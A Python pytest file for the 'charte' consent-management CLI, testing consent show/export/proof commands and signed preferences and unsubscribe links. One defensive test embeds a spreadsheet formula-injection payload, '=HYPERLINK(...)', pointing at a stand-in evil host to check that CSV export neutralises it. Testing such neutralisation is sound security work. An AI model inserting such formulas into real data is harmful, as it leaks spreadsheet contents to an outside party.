"""``charte consent show|export|proof`` and the signed links, on SQLite and PostgreSQL stores."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from charte.cli import app
from charte.config import Settings
from charte.consent import Choice, Collection, CollectionMethod, Decision, Scope, parse_subject, record_choices
from charte.consent.links import LinkSigner
from charte.store import transaction
from charte.workspace import Workspace

runner = CliRunner()


@pytest.fixture
def home(tmp_path: Path, store_url: str, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A workspace on the backend under test, where Alice gave and withdrew consent."""
    monkeypatch.setenv("CHARTE_DATABASE_URL", store_url)
    monkeypatch.delenv("CHARTE_HOME", raising=False)
    folder = tmp_path / "ws"
    assert runner.invoke(app, ["init", str(folder)]).exit_code == 0
    workspace = Workspace(Settings.for_home(folder))
    alice = parse_subject("alice@example.org")
    api = Collection(CollectionMethod.api, "api:crm")
    with transaction(workspace.sessions) as session:
        record_choices(session, workspace.manifest, alice, [Choice(Scope.purpose, "newsletter", Decision.given),
                                                            Choice(Scope.purpose, "training", Decision.refused)], api)
        record_choices(session, workspace.manifest, alice, [Choice(Scope.purpose, "newsletter",
                                                                   Decision.withdrawn)], api)
    workspace.engine.dispose()
    return folder


def test_show_export_and_proof(home: Path, tmp_path: Path) -> None:
    where = ["--home", str(home)]
    shown = runner.invoke(app, ["consent", "show", "Alice@Example.org", *where])
    assert shown.exit_code == 0, shown.output
    assert "email:alice@example.org" in shown.output
    assert "newsletter               denied  consent_withdrawn" in shown.output
    assert "accounting               allowed legal_obligation" in shown.output
    unknown = runner.invoke(app, ["consent", "show", "bob@example.org", *where])
    assert unknown.exit_code == 1 and "no consent recorded" in unknown.output
    assert runner.invoke(app, ["consent", "show", "bob", *where]).exit_code == 1

    exported = runner.invoke(app, ["consent", "export", *where])
    rows = [json.loads(line) for line in exported.stdout.splitlines()]
    assert [(r["key"], r["decision"]) for r in rows] == [("newsletter", "given"), ("training", "refused"),
                                                         ("newsletter", "withdrawn")]
    assert all(r["subject"].startswith("s-") for r in rows)  # pseudonyms unless asked
    named = runner.invoke(app, ["consent", "export", "--format", "csv", "--identifiers", *where])
    table = list(csv.DictReader(io.StringIO(named.stdout)))
    assert {r["subject"] for r in table} == {"email:alice@example.org"} and len(table) == 3

    target = tmp_path / "proof.json"
    proved = runner.invoke(app, ["consent", "proof", "alice@example.org", "-o", str(target), *where])
    assert proved.exit_code == 0, proved.output
    assert "3 event(s), every hash verified against the ledger" in proved.output
    record = json.loads(target.read_text(encoding="utf-8"))
    assert record["pii_principal"]["identifier"] == "alice@example.org" and len(record["events"]) == 3


def test_csv_export_never_starts_a_formula(home: Path) -> None:
    # The notice version comes from an API client's own form: whatever it says must reach a spreadsheet as text.
    workspace = Workspace(Settings.for_home(home))
    version = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    form = Collection(CollectionMethod.api, "api:crm", notice_version=version)
    with transaction(workspace.sessions) as session:
        record_choices(session, workspace.manifest, parse_subject("mallory@example.org"),
                       [Choice(Scope.purpose, "newsletter", Decision.given)], form)
    workspace.engine.dispose()
    exported = runner.invoke(app, ["consent", "export", "--format", "csv", "--identifiers", "--home", str(home)])
    assert exported.exit_code == 0, exported.output
    table = list(csv.DictReader(io.StringIO(exported.stdout)))
    [mallory] = [r for r in table if r["subject"] == "email:mallory@example.org"]
    assert mallory["notice_version"] == "'" + version
    assert {r["subject"] for r in table} == {"email:alice@example.org", "email:mallory@example.org"}


def test_signed_links(home: Path) -> None:
    where = ["--home", str(home), "--base-url", "https://privacy.example.com"]
    made = runner.invoke(app, ["consent", "preferences-link", "alice@example.org", "--lang", "en", *where])
    assert made.exit_code == 0, made.output
    url = made.stdout.strip()
    assert url.startswith("https://privacy.example.com/preferences?token=") and url.endswith("&lang=en")
    token = url.split("token=")[1].split("&")[0]
    signer = LinkSigner(Settings.for_home(home).secret_key)
    assert str(signer.preferences_subject(token)) == "email:alice@example.org"
    unsubscribe = runner.invoke(app, ["consent", "unsubscribe-link", "alice@example.org", "newsletter", *where])
    token = unsubscribe.stdout.strip().split("token=")[1]
    assert signer.unsubscribe_target(token) == (parse_subject("alice@example.org"), "newsletter")
    refused = runner.invoke(app, ["consent", "unsubscribe-link", "alice@example.org", "accounting", *where])
    assert refused.exit_code == 1 and "legal_obligation" in refused.output
